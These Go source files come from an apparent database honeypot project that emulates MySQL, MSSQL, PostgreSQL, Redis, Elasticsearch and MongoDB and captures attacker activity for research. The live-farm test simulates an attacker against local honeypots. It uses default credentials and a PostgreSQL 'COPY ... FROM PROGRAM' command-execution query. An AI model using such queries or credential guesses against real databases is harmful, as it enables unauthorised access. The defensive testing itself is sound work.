	events := hptest.Run(t, hp.Handler(), mysqlInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		if _, err := ReadPacket(br); err != nil {
			t.Fatal(err)
		}
		// Scanner disconnects after the banner.
	})
	if n := len(hptest.Logins(events)); n != 0 {
		t.Fatalf("logins = %d, want 0", n)
	}
	if n := len(hptest.EventsOfKind(events, core.EventConnect)); n != 1 {
		t.Fatalf("connects = %d", n)
	}
}

func TestHoneypotMalformedLogin(t *testing.T) {
	hp := New()
	events := hptest.Run(t, hp.Handler(), mysqlInfo(), func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		if _, err := ReadPacket(br); err != nil {
			t.Fatal(err)
		}
		// Garbage instead of a HandshakeResponse.
		if err := WritePacket(conn, Packet{Seq: 1, Payload: []byte{0x01, 0x02}}); err != nil {
			t.Fatal(err)
		}
		if _, err := ReadPacket(br); err != nil {
			t.Fatalf("expected denial packet: %v", err)
		}
	})
	cmds := hptest.Commands(events)
	if len(cmds) != 1 || cmds[0] != "MALFORMED-LOGIN" {
		t.Fatalf("commands = %v", cmds)
	}
}

func TestMariaDBVariantBanner(t *testing.T) {
	hp := NewMariaDB()
	info := core.Info{DBMS: core.MariaDB, Level: core.Low, Port: 3306, Config: core.ConfigDefault, Group: core.GroupSingle}
	hptest.Run(t, hp.Handler(), info, func(t *testing.T, conn net.Conn) {
		br := bufio.NewReader(conn)
		greeting, err := ReadPacket(br)
		if err != nil {
			t.Fatal(err)
		}
		hs, err := ParseHandshake(greeting.Payload)
		if err != nil {
			t.Fatal(err)
		}
		if hs.Version != MariaDBVersion {
			t.Fatalf("banner = %q, want MariaDB flavour", hs.Version)
		}
	})
}
