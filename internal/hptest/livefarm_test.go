// Live integration test: the full honeypot suite served over real TCP
// listeners, attacked concurrently by protocol-correct clients, with the
// capture verified through the same pipeline the paper reproduction uses.
package hptest

import (
	"bufio"
	"context"
	"net"
	"testing"
	"time"

	"decoydb/internal/bson"
	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/elastic"
	"decoydb/internal/evstore"
	"decoydb/internal/fakedata"
	"decoydb/internal/geoip"
	"decoydb/internal/mongo"
	"decoydb/internal/mssql"
	"decoydb/internal/mysql"
	"decoydb/internal/postgres"
	"decoydb/internal/redis"
)

func TestLiveFarmAllProtocols(t *testing.T) {
	store := evstore.New(core.ExperimentStart, 20, geoip.Default())
	farm := core.NewFarm(core.RealClock{}, store, core.FarmOptions{
		SessionTimeout: 10 * time.Second,
		Logf:           func(string, ...any) {},
	})
	defer farm.Shutdown()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	mongoStore := mongo.NewStore()
	for _, doc := range fakedata.New(3).MongoCustomers(10) {
		mongoStore.Insert("customers", "records", doc)
	}
	deploy := map[string]core.Handler{
		core.MySQL:    mysql.New().Handler(),
		core.MSSQL:    mssql.New().Handler(),
		core.Postgres: postgres.New(postgres.ModeOpen).Handler(),
		core.Redis:    redis.New(redis.Options{FakeData: map[string]string{"user:001": "x:y"}}).Handler(),
		core.Elastic:  elastic.New().Handler(),
		core.MongoDB:  mongo.New(mongoStore).Handler(),
	}
	addrs := map[string]net.Addr{}
	for dbms, h := range deploy {
		level := core.Low
		switch dbms {
		case core.Redis, core.Elastic, core.Postgres:
			level = core.Medium
		case core.MongoDB:
			level = core.High
		}
		info := core.Info{DBMS: dbms, Level: level, Config: core.ConfigDefault, Group: core.GroupSingle}
		addr, err := farm.Listen(ctx, "127.0.0.1:0", &core.Honeypot{Info: info, Handler: h})
		if err != nil {
			t.Fatal(err)
		}
		addrs[dbms] = addr
	}

	dial := func(dbms string) net.Conn {
		conn, err := net.Dial("tcp", addrs[dbms].String())
		if err != nil {
			t.Fatalf("dial %s: %v", dbms, err)
		}
		conn.SetDeadline(time.Now().Add(5 * time.Second))
		return conn
	}

	// MySQL: full login with cleartext auth switch.
	func() {
		conn := dial(core.MySQL)
		defer conn.Close()
		br := bufio.NewReader(conn)
		if _, err := mysql.ReadPacket(br); err != nil {
			t.Fatalf("mysql greeting: %v", err)
		}
		lr := mysql.LoginRequest{
			Capabilities: mysql.CapLongPassword | mysql.CapProtocol41 | mysql.CapSecureConnection | mysql.CapPluginAuth,
			MaxPacket:    1 << 24, Charset: 0x21, User: "root", AuthData: []byte{1},
		}
		mysql.WritePacket(conn, mysql.Packet{Seq: 1, Payload: mysql.EncodeLoginRequest(lr)})
		sw, err := mysql.ReadPacket(br)
		if err != nil {
			t.Fatalf("mysql switch: %v", err)
		}
		mysql.WritePacket(conn, mysql.Packet{Seq: sw.Seq + 1, Payload: append([]byte("toor"), 0)})
		mysql.ReadPacket(br)
	}()

	// MSSQL: one brute attempt.
	func() {
		conn := dial(core.MSSQL)
		defer conn.Close()
		br := bufio.NewReader(conn)
		mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)})
		if _, err := mssql.ReadPacket(br); err != nil {
			t.Fatalf("mssql prelogin: %v", err)
		}
		l7 := mssql.EncodeLogin7(mssql.Login7{UserName: "sa", Password: "123"})
		mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktLogin7, Payload: l7})
		if _, err := mssql.ReadPacket(br); err != nil {
			t.Fatalf("mssql denial: %v", err)
		}
	}()

	// PostgreSQL: login + Kinsing-style query.
	func() {
		conn := dial(core.Postgres)
		defer conn.Close()
		br := bufio.NewReader(conn)
		conn.Write(postgres.EncodeStartup(map[string]string{"user": "postgres"}))
		if m, err := postgres.ReadMsg(br); err != nil || m.Type != 'R' {
			t.Fatalf("pg auth request: %v %c", err, m.Type)
		}
		postgres.WriteMsg(conn, 'p', postgres.EncodePassword("postgres"))
		for {
			m, err := postgres.ReadMsg(br)
			if err != nil {
				t.Fatalf("pg: %v", err)
			}
			if m.Type == 'Z' {
				break
			}
		}
		postgres.WriteMsg(conn, 'Q', postgres.EncodeQuery("COPY x FROM PROGRAM 'id';"))
		for {
			m, err := postgres.ReadMsg(br)
			if err != nil {
				t.Fatalf("pg query: %v", err)
			}
			if m.Type == 'Z' {
				break
			}
		}
		postgres.WriteMsg(conn, 'X', nil)
	}()

	// Redis: scouting with TYPE walk.
	func() {
		conn := dial(core.Redis)
		defer conn.Close()
		br := bufio.NewReader(conn)
		for _, cmd := range [][]string{{"INFO"}, {"KEYS", "*"}, {"TYPE", "user:001"}} {
			conn.Write(redis.EncodeCommand(cmd...))
			if _, err := redis.ReadValue(br); err != nil {
				t.Fatalf("redis %v: %v", cmd, err)
			}
		}
	}()

	// Elasticsearch: banner + index listing over HTTP.
	func() {
		conn := dial(core.Elastic)
		defer conn.Close()
		br := bufio.NewReader(conn)
		conn.Write([]byte("GET /_cat/indices HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
		status, err := br.ReadString('\n')
		if err != nil || status != "HTTP/1.1 200 OK\r\n" {
			t.Fatalf("elastic status = %q, %v", status, err)
		}
	}()

	// MongoDB: enumerate + dump over OP_MSG.
	func() {
		conn := dial(core.MongoDB)
		defer conn.Close()
		br := bufio.NewReader(conn)
		for i, cmd := range []bson.D{
			{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}},
			{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}},
			{{Key: "find", Val: "records"}, {Key: "$db", Val: "customers"}},
		} {
			b, err := mongo.EncodeMsg(int32(i+1), cmd)
			if err != nil {
				t.Fatal(err)
			}
			conn.Write(b)
			if _, err := mongo.ReadMessage(br); err != nil {
				t.Fatalf("mongo reply %d: %v", i, err)
			}
		}
	}()

	// All sessions end; the store must show one loopback source with the
	// right per-protocol activity and an exploiting classification (the
	// COPY FROM PROGRAM query).
	deadline := time.Now().Add(5 * time.Second)
	for {
		recs := store.IPs()
		if len(recs) == 1 && len(recs[0].Per) >= 6 {
			rec := recs[0]
			if got := classify.IP(rec, evstore.Query{}); got != classify.Exploiting {
				t.Fatalf("classification = %v, want exploiting", got)
			}
			if rec.TotalLogins() != 3 { // mysql + mssql + postgres
				t.Fatalf("logins = %d, want 3", rec.TotalLogins())
			}
			creds := store.Creds(evstore.Query{DBMS: core.MSSQL})
			if len(creds) != 1 || creds[0].User != "sa" {
				t.Fatalf("mssql creds = %v", creds)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("incomplete capture: %d recs", len(recs))
		}
		time.Sleep(20 * time.Millisecond)
	}
}
