// Package hptest provides shared helpers for exercising honeypot handlers
// in tests: an in-memory full-duplex session runner and event assertions.
package hptest

import (
	"context"
	"net"
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/core"
)

// DefaultSrc is the synthetic client address test sessions use.
var DefaultSrc = netip.MustParseAddrPort("203.0.113.7:40000")

// Run drives handler over one side of an in-memory connection while client
// drives the other, and returns the events the session emitted. The client
// function must close its connection (or fully consume the dialogue) to
// let the handler finish.
func Run(t *testing.T, handler core.Handler, info core.Info, client func(t *testing.T, conn net.Conn)) []core.Event {
	t.Helper()
	sink := &core.MemSink{}
	srv, cli := net.Pipe()
	clock := core.NewVirtualClock(core.ExperimentStart)
	sess := core.NewSession(info, DefaultSrc, clock, sink)

	done := make(chan error, 1)
	go func() {
		done <- core.ServeConn(context.Background(), handler, srv, sess)
	}()

	func() {
		defer cli.Close()
		client(t, cli)
	}()

	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("handler returned error: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("handler did not finish within 5s")
	}
	return sink.Events()
}

// EventsOfKind filters events by kind.
func EventsOfKind(events []core.Event, kind core.EventKind) []core.Event {
	var out []core.Event
	for _, e := range events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

// Commands extracts the normalised command strings in order.
func Commands(events []core.Event) []string {
	var out []string
	for _, e := range events {
		if e.Kind == core.EventCommand {
			out = append(out, e.Command)
		}
	}
	return out
}

// Logins extracts (user, pass) pairs in order.
func Logins(events []core.Event) [][2]string {
	var out [][2]string
	for _, e := range events {
		if e.Kind == core.EventLogin {
			out = append(out, [2]string{e.User, e.Pass})
		}
	}
	return out
}
