// Adversarial robustness suite: every honeypot faces the open Internet,
// so every handler must survive arbitrary bytes — truncated handshakes,
// random garbage, oversized declarations — without panicking or hanging.
// These are property tests in the spirit of fuzzing, kept deterministic
// with seeded generators so failures reproduce.
package hptest

import (
	"context"
	"math/rand"
	"net"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/elastic"
	"decoydb/internal/mongo"
	"decoydb/internal/mssql"
	"decoydb/internal/mysql"
	"decoydb/internal/postgres"
	"decoydb/internal/redis"
)

// handlers lists every protocol honeypot under test.
func handlers() map[string]core.Handler {
	return map[string]core.Handler{
		core.MySQL:    mysql.New().Handler(),
		core.MSSQL:    mssql.New().Handler(),
		core.Postgres: postgres.New(postgres.ModeOpen).Handler(),
		core.Redis:    redis.New(redis.Options{}).Handler(),
		core.Elastic:  elastic.New().Handler(),
		core.MongoDB:  mongo.New(nil).Handler(),
	}
}

// throwGarbage runs one session feeding the payload and returns without
// judging the handler's error — the only failure modes are panic
// (surfaced by ServeConn as an error containing "panic") and hang.
func throwGarbage(t *testing.T, name string, h core.Handler, payload []byte) {
	t.Helper()
	srv, cli := net.Pipe()
	deadline := time.Now().Add(2 * time.Second)
	srv.SetDeadline(deadline)
	cli.SetDeadline(deadline)
	sess := core.NewSession(core.Info{DBMS: name}, DefaultSrc, core.FixedClock(core.ExperimentStart), &core.MemSink{})
	done := make(chan error, 1)
	go func() { done <- core.ServeConn(context.Background(), h, srv, sess) }()
	// Drain concurrently from the start: server-speaks-first protocols
	// (MySQL) would otherwise deadlock against our own write.
	go func() {
		buf := make([]byte, 4096)
		for {
			if _, err := cli.Read(buf); err != nil {
				return
			}
		}
	}()
	cli.Write(payload)
	time.Sleep(time.Millisecond)
	cli.Close()
	select {
	case err := <-done:
		if err != nil && containsPanic(err.Error()) {
			t.Fatalf("%s: handler panicked on %q: %v", name, payload, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatalf("%s: handler hung on %d bytes of garbage", name, len(payload))
	}
}

func containsPanic(s string) bool {
	return len(s) >= 5 && (s[:5] == "panic" || indexOf(s, "panic") >= 0)
}

func indexOf(s, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return i
		}
	}
	return -1
}

func TestHandlersSurviveRandomGarbage(t *testing.T) {
	r := rand.New(rand.NewSource(99))
	for name, h := range handlers() {
		t.Run(name, func(t *testing.T) {
			for i := 0; i < 40; i++ {
				n := 1 + r.Intn(512)
				payload := make([]byte, n)
				r.Read(payload)
				throwGarbage(t, name, h, payload)
			}
		})
	}
}

// protocolPrefixes are plausible-looking-but-wrong openings for each
// protocol: right framing, hostile contents.
func protocolPrefixes(name string) [][]byte {
	switch name {
	case core.MySQL:
		return [][]byte{
			{0xff, 0xff, 0xff, 0x00},             // max-length declaration
			{0x01, 0x00, 0x00, 0x00, 0x00},       // 1-byte packet
			{0x05, 0x00, 0x00, 0x01, 1, 2, 3, 4}, // truncated payload
		}
	case core.MSSQL:
		return [][]byte{
			{0x12, 0x01, 0xff, 0xff, 0, 0, 1, 0},             // oversized prelogin
			{0x10, 0x01, 0x00, 0x09, 0, 0, 1, 0, 0x41},       // 1-byte login7
			{0x12, 0x01, 0x00, 0x08, 0, 0, 1, 0},             // empty prelogin
			{0x01, 0x01, 0x00, 0x0a, 0, 0, 1, 0, 0x41, 0x00}, // pre-auth batch
		}
	case core.Postgres:
		return [][]byte{
			{0x00, 0x00, 0x00, 0x04},             // undersized startup
			{0x7f, 0xff, 0xff, 0xff},             // oversized startup
			{0x00, 0x00, 0x00, 0x09, 0, 3, 0, 0}, // truncated body
		}
	case core.Redis:
		return [][]byte{
			[]byte("*999999999\r\n"),
			[]byte("$-7\r\n"),
			[]byte("*2\r\n$3\r\nGET\r\n$99999\r\nx\r\n"),
		}
	case core.Elastic:
		return [][]byte{
			[]byte("GET / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n"),
			[]byte("BOGUS /\r\n\r\n"),
			{0x16, 0x03, 0x01, 0x02, 0x00}, // TLS hello on plaintext port
		}
	case core.MongoDB:
		return [][]byte{
			{0xff, 0xff, 0xff, 0x7f, 0, 0, 0, 0, 0, 0, 0, 0, 0xdd, 0x07, 0, 0},    // huge decl
			{0x10, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 0x07, 0, 0},             // empty OP_MSG
			{0x14, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xd4, 0x07, 0, 0, 1, 2, 3, 4}, // bad OP_QUERY
		}
	}
	return nil
}

func TestHandlersSurviveHostileFraming(t *testing.T) {
	for name, h := range handlers() {
		t.Run(name, func(t *testing.T) {
			for _, p := range protocolPrefixes(name) {
				throwGarbage(t, name, h, p)
			}
		})
	}
}

// TestHandlersSurviveTruncatedLegitimateDialogues cuts real protocol
// openings short at every byte boundary — the connection-drop-mid-
// handshake case that dominates real scan traffic.
func TestHandlersSurviveTruncatedLegitimateDialogues(t *testing.T) {
	openings := map[string][]byte{
		core.MSSQL:    append([]byte{0x12, 0x01, 0x00, 0x2f, 0, 0, 1, 0}, mssql.StandardPrelogin(11, 0, 0, 0)...),
		core.Postgres: postgres.EncodeStartup(map[string]string{"user": "postgres"}),
		core.Redis:    redis.EncodeCommand("SET", "key", "value"),
		core.Elastic:  []byte("GET /_cat/indices HTTP/1.1\r\nHost: x\r\n\r\n"),
	}
	for name, full := range openings {
		h := handlers()[name]
		t.Run(name, func(t *testing.T) {
			step := 3
			for cut := 1; cut < len(full); cut += step {
				throwGarbage(t, name, h, full[:cut])
			}
		})
	}
}
