package geoip

import (
	"math/rand"
	"net/netip"
	"testing"
	"testing/quick"

	"decoydb/internal/asdb"
)

func TestDefaultLookupConsistency(t *testing.T) {
	db := Default()
	for _, a := range db.Allocations() {
		r := rand.New(rand.NewSource(int64(a.ASN) + 1))
		for i := 0; i < 5; i++ {
			addr := RandomAddr(a.Prefix, r)
			rec, ok := db.Lookup(addr)
			if !ok {
				t.Fatalf("Lookup(%v) missed its own allocation %v", addr, a.Prefix)
			}
			if rec.Country != a.Country || rec.ASN != a.ASN {
				t.Fatalf("Lookup(%v) = %+v, want country %s ASN %d", addr, rec, a.Country, a.ASN)
			}
		}
	}
}

func TestLookupMiss(t *testing.T) {
	db := Default()
	for _, s := range []string{"8.8.8.8", "203.0.113.1", "192.168.1.1"} {
		if _, ok := db.Lookup(netip.MustParseAddr(s)); ok {
			t.Fatalf("Lookup(%s) unexpectedly hit", s)
		}
	}
}

func TestOverlapRejected(t *testing.T) {
	a := Allocation{Prefix: netip.MustParsePrefix("10.0.0.0/8"), Country: "US", ASN: 1}
	b := Allocation{Prefix: netip.MustParsePrefix("10.1.0.0/16"), Country: "DE", ASN: 2}
	if _, err := New([]Allocation{a, b}); err == nil {
		t.Fatal("overlapping allocations accepted")
	}
}

func TestPaperNamedASesPresent(t *testing.T) {
	db := Default()
	// AS208091: registered in the UK, IPs geolocated to Russia — the
	// paper's heavy brute-force source.
	allocs := db.ByASN(208091)
	if len(allocs) == 0 {
		t.Fatal("AS208091 missing")
	}
	for _, a := range allocs {
		if a.Country != "RU" {
			t.Fatalf("AS208091 geo = %s, want RU", a.Country)
		}
	}
	if asdb.Lookup(208091).Registered != "GB" {
		t.Fatal("AS208091 not registered in GB")
	}
	for _, asn := range []uint32{6939, 396982, 14061, 211298, 14618, 135377, 4134, 4837, 398324, 63949} {
		if len(db.ByASN(asn)) == 0 {
			t.Fatalf("paper AS %d has no allocations", asn)
		}
	}
}

func TestEveryAllocationASNRegisteredOrZero(t *testing.T) {
	for _, a := range Default().Allocations() {
		if a.ASN == 0 {
			continue
		}
		if asdb.Lookup(a.ASN).Type == asdb.Unknown {
			t.Fatalf("allocation %v references unregistered ASN %d", a.Prefix, a.ASN)
		}
	}
}

func TestCountryCoverage(t *testing.T) {
	db := Default()
	// Countries required by the paper's tables 5 and 10.
	for _, c := range []string{"US", "CN", "GB", "RU", "EE", "KR", "UA", "IR", "GE", "GR", "IN", "BG", "DE", "FR", "NL", "SG", "ID"} {
		if len(db.In(c)) == 0 {
			t.Fatalf("no allocations in %s", c)
		}
	}
}

func TestInstitutionalASesAreSecurity(t *testing.T) {
	for _, as := range asdb.All() {
		if as.Institutional && as.Type != asdb.Security {
			t.Fatalf("institutional AS %d (%s) has type %s", as.ASN, as.Name, as.Type)
		}
	}
}

// Property: RandomAddr always lands inside its prefix.
func TestRandomAddrContainedQuick(t *testing.T) {
	db := Default()
	allocs := db.Allocations()
	r := rand.New(rand.NewSource(3))
	f := func(i uint, seed int64) bool {
		a := allocs[int(i%uint(len(allocs)))]
		addr := RandomAddr(a.Prefix, rand.New(rand.NewSource(seed)))
		return a.Prefix.Contains(addr)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500, Rand: r}); err != nil {
		t.Fatal(err)
	}
}

func TestCountriesSorted(t *testing.T) {
	cs := Default().Countries()
	if len(cs) < 10 {
		t.Fatalf("countries = %d", len(cs))
	}
	for i := 1; i < len(cs); i++ {
		if cs[i-1] >= cs[i] {
			t.Fatalf("countries not sorted/unique at %d: %v", i, cs[i-1:i+1])
		}
	}
}

func TestASDBTypes(t *testing.T) {
	if got := asdb.Lookup(4134); got.Type != asdb.Telecom || got.Name != "Chinanet" {
		t.Fatalf("Chinanet = %+v", got)
	}
	if got := asdb.Lookup(999999); got.Type != asdb.Unknown {
		t.Fatalf("unknown ASN = %+v", got)
	}
	if !asdb.Institutional(398324) {
		t.Fatal("Censys not institutional")
	}
	if asdb.Institutional(4134) {
		t.Fatal("Chinanet institutional")
	}
	if len(asdb.Types()) != 9 {
		t.Fatalf("types = %v", asdb.Types())
	}
}
