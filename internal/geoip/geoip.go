// Package geoip provides IP-to-(country, ASN) enrichment, standing in for
// the MaxMind GeoLite2 database the paper used (Section 4.3). The database
// is a sorted, non-overlapping CIDR allocation table with binary-search
// lookup — the same semantics as GeoLite, over a synthetic allocation
// plan.
//
// The same allocation table that the enricher resolves against is the one
// the traffic simulator draws actor addresses from. That mirrors the
// real-world setup (real IPs resolved against the real GeoLite snapshot)
// while keeping the whole system self-consistent and offline.
package geoip

import (
	"fmt"
	"math/rand"
	"net/netip"
	"sort"

	"decoydb/internal/asdb"
)

// Allocation is one CIDR block assigned to a (country, ASN) pair. ASN 0
// marks address space with no AS mapping, which the paper reports as
// "could not be mapped to ASN" (15.3% of logins).
type Allocation struct {
	Prefix  netip.Prefix
	Country string
	ASN     uint32
}

// Record is the enrichment result for one address.
type Record struct {
	Country string
	ASN     uint32
	ASName  string
	ASType  asdb.Type
}

// DB is an immutable lookup table.
type DB struct {
	allocs []Allocation
}

// New builds a DB from allocations, validating that prefixes do not
// overlap.
func New(allocs []Allocation) (*DB, error) {
	sorted := make([]Allocation, len(allocs))
	copy(sorted, allocs)
	sort.Slice(sorted, func(i, j int) bool {
		return sorted[i].Prefix.Addr().Less(sorted[j].Prefix.Addr())
	})
	for i := 1; i < len(sorted); i++ {
		if sorted[i-1].Prefix.Contains(sorted[i].Prefix.Addr()) ||
			sorted[i].Prefix.Contains(sorted[i-1].Prefix.Addr()) {
			return nil, fmt.Errorf("geoip: overlapping allocations %v and %v",
				sorted[i-1].Prefix, sorted[i].Prefix)
		}
	}
	return &DB{allocs: sorted}, nil
}

// Lookup resolves addr to its allocation record.
func (db *DB) Lookup(addr netip.Addr) (Record, bool) {
	i := sort.Search(len(db.allocs), func(i int) bool {
		return addr.Less(db.allocs[i].Prefix.Addr())
	})
	if i == 0 {
		return Record{}, false
	}
	a := db.allocs[i-1]
	if !a.Prefix.Contains(addr) {
		return Record{}, false
	}
	as := asdb.Lookup(a.ASN)
	return Record{Country: a.Country, ASN: a.ASN, ASName: as.Name, ASType: as.Type}, true
}

// Allocations returns the full sorted allocation table.
func (db *DB) Allocations() []Allocation {
	out := make([]Allocation, len(db.allocs))
	copy(out, db.allocs)
	return out
}

// In returns the allocations geolocated to country.
func (db *DB) In(country string) []Allocation {
	var out []Allocation
	for _, a := range db.allocs {
		if a.Country == country {
			out = append(out, a)
		}
	}
	return out
}

// ByASN returns the allocations of one AS.
func (db *DB) ByASN(asn uint32) []Allocation {
	var out []Allocation
	for _, a := range db.allocs {
		if a.ASN == asn {
			out = append(out, a)
		}
	}
	return out
}

// Countries returns the distinct countries in the table, sorted.
func (db *DB) Countries() []string {
	seen := map[string]bool{}
	for _, a := range db.allocs {
		seen[a.Country] = true
	}
	out := make([]string, 0, len(seen))
	for c := range seen {
		out = append(out, c)
	}
	sort.Strings(out)
	return out
}

// RandomAddr draws a uniform host address from p (IPv4 prefixes only),
// avoiding the all-zeros and broadcast host positions.
func RandomAddr(p netip.Prefix, r *rand.Rand) netip.Addr {
	base := p.Addr().As4()
	hostBits := 32 - p.Bits()
	n := uint32(1) << hostBits
	off := uint32(1)
	if n > 2 {
		off = 1 + uint32(r.Intn(int(n-2)))
	}
	v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])
	v += off
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}
