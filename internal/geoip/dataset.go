package geoip

import (
	"fmt"
	"net/netip"
	"sync"
)

// footprint declares how many /16 blocks an AS holds in a country. The
// default database is generated from this plan: blocks are carved
// sequentially out of 20.0.0.0/8, which keeps the table non-overlapping by
// construction and easy to reason about in tests.
type footprint struct {
	asn     uint32
	country string
	blocks  int
}

// The geographic footprints encode what the paper's tables need: the
// named ASes with their login-source geographies (e.g. AS208091 hosting
// the heavy Russian brute-forcers, Chinanet's exploited telecom space),
// hosting providers with multi-country presence (the exploiter geography
// of Table 10), per-country telecoms, institutional scanner ranges, and
// unmapped space (ASN 0).
var footprints = []footprint{
	// Named in the paper.
	{6939, "US", 4},
	{396982, "US", 4},
	{14061, "US", 2}, {14061, "DE", 1}, {14061, "NL", 1}, {14061, "SG", 1}, {14061, "IN", 1}, {14061, "GB", 1},
	{211298, "GB", 1},
	{14618, "US", 2},
	{135377, "CN", 2}, {135377, "SG", 1},
	{4134, "CN", 4},
	{4837, "CN", 2},
	{398324, "US", 1},
	{63949, "US", 2}, {63949, "SG", 1}, {63949, "DE", 1},
	{208091, "RU", 1},
	// Institutional / security scanners.
	{395092, "US", 1},
	{59113, "US", 1},
	{37153, "PT", 1},
	{64496, "US", 1},
	{48693, "US", 1},
	// Hosting.
	{24940, "DE", 3},
	{16276, "FR", 3}, {16276, "CA", 1},
	{12876, "FR", 2}, {12876, "NL", 1},
	{20473, "US", 2}, {20473, "FR", 1}, {20473, "DE", 1}, {20473, "NL", 1}, {20473, "SG", 1}, {20473, "GB", 1},
	{45102, "CN", 2}, {45102, "SG", 1}, {45102, "US", 1},
	{45090, "CN", 2},
	{34224, "BG", 2},
	{49981, "NL", 1},
	{16509, "US", 3},
	{8075, "US", 2},
	{51167, "DE", 2}, {51167, "US", 1},
	{57043, "NL", 1},
	{44477, "RU", 1}, {44477, "NL", 1},
	{35048, "RU", 1},
	{213035, "US", 1}, {213035, "NL", 1},
	{132203, "CN", 2},
	{55990, "CN", 1},
	// Telecoms.
	{12389, "RU", 3},
	{3249, "EE", 1},
	{4766, "KR", 2},
	{6849, "UA", 1},
	{58224, "IR", 2},
	{35805, "GE", 1},
	{6799, "GR", 1},
	{9829, "IN", 2},
	{8866, "BG", 1},
	{3320, "DE", 2},
	{3215, "FR", 2},
	{1136, "NL", 1},
	{7473, "SG", 1},
	{7713, "ID", 2},
	{7922, "US", 3},
	{2856, "GB", 2},
	{4812, "CN", 2},
	// Other categories.
	{13335, "US", 2}, {13335, "DE", 1},
	{19551, "NL", 1},
	{202425, "NL", 1},
	{262287, "BR", 1},
	{135905, "VN", 1},
	{34619, "TR", 1},
	{45430, "TH", 1},
	{15169, "US", 2},
	{32934, "US", 1},
	{714, "US", 1},
	{1103, "NL", 1},
	{9009, "RO", 1},
	{212238, "GB", 1},
	{6128, "US", 1},
	// Unmapped space (no ASN): the paper could not map 15.3% of login
	// sources to an AS; tail countries live here too.
	{0, "US", 1}, {0, "CN", 1}, {0, "GB", 1}, {0, "RU", 1}, {0, "IN", 1},
	{0, "BR", 1}, {0, "VN", 1}, {0, "TR", 1}, {0, "JP", 1}, {0, "CA", 1},
	{0, "AU", 1}, {0, "MX", 1}, {0, "TH", 1}, {0, "PK", 1}, {0, "EG", 1},
	{0, "NG", 1}, {0, "ZA", 1}, {0, "PL", 1}, {0, "IT", 1}, {0, "ES", 1},
	{0, "AR", 1}, {0, "CO", 1}, {0, "KR", 1}, {0, "DE", 1}, {0, "FR", 1},
	{0, "NL", 1}, {0, "ID", 1}, {0, "SG", 1}, {0, "BG", 1}, {0, "PT", 1}, {0, "RO", 1},
}

var (
	defaultOnce sync.Once
	defaultDB   *DB
)

// Default returns the generated default database. It is built once and
// shared; the DB is immutable.
func Default() *DB {
	defaultOnce.Do(func() {
		var allocs []Allocation
		second := 0 // next free /16 inside 20.0.0.0/8
		for _, f := range footprints {
			for b := 0; b < f.blocks; b++ {
				if second > 255 {
					panic("geoip: allocation plan exceeds 20.0.0.0/8")
				}
				p := netip.PrefixFrom(netip.AddrFrom4([4]byte{20, byte(second), 0, 0}), 16)
				allocs = append(allocs, Allocation{Prefix: p, Country: f.country, ASN: f.asn})
				second++
			}
		}
		db, err := New(allocs)
		if err != nil {
			panic(fmt.Sprintf("geoip: default dataset invalid: %v", err))
		}
		defaultDB = db
	})
	return defaultDB
}
