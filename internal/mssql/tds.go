// Package mssql implements a low-interaction Microsoft SQL Server honeypot
// speaking the TDS protocol, as deployed by the paper on port 1433. MSSQL
// absorbed 99.5% of all brute-force logins in the paper's dataset
// (18,076,729 of 18,162,811), so this honeypot is the hot path of the
// whole system: parsing is allocation-light and strictly bounded.
//
// The implementation covers PRELOGIN negotiation and LOGIN7 credential
// capture, including de-obfuscation of the TDS password encoding (nibble
// swap + XOR 0xA5 per byte), and answers every login with the genuine
// "Login failed for user" token stream (error 18456).
package mssql

import (
	"fmt"
	"io"
	"unicode/utf16"

	"decoydb/internal/wire"
)

// TDS packet types.
const (
	PktSQLBatch = 0x01
	PktLogin7   = 0x10
	PktPrelogin = 0x12
	PktResponse = 0x04
)

// MaxPacket bounds a single TDS packet (header + payload).
const MaxPacket = 32 * 1024

// Packet is one TDS packet.
type Packet struct {
	Type    byte
	Status  byte
	Payload []byte
}

// ReadPacket reads one TDS packet.
func ReadPacket(r io.Reader) (Packet, error) {
	var hdr [8]byte
	if err := wire.ReadFull(r, hdr[:]); err != nil {
		return Packet{}, err
	}
	length := int(hdr[2])<<8 | int(hdr[3])
	if length < 8 || length > MaxPacket {
		return Packet{}, fmt.Errorf("%w: tds length %d", wire.ErrFrameTooLarge, length)
	}
	payload := make([]byte, length-8)
	if err := wire.ReadFull(r, payload); err != nil {
		return Packet{}, err
	}
	return Packet{Type: hdr[0], Status: hdr[1], Payload: payload}, nil
}

// WritePacket writes one TDS packet with EOM status.
func WritePacket(w io.Writer, p Packet) error {
	length := len(p.Payload) + 8
	if length > MaxPacket {
		return wire.ErrFrameTooLarge
	}
	hdr := [8]byte{p.Type, 0x01 /* EOM */, byte(length >> 8), byte(length), 0, 0, 1, 0}
	if p.Status != 0 {
		hdr[1] = p.Status
	}
	if _, err := w.Write(hdr[:]); err != nil {
		return err
	}
	_, err := w.Write(p.Payload)
	return err
}

// PreloginOption tokens.
const (
	PreloginVersion    = 0x00
	PreloginEncryption = 0x01
	PreloginInstOpt    = 0x02
	PreloginThreadID   = 0x03
	PreloginMARS       = 0x04
	PreloginTerminator = 0xff
)

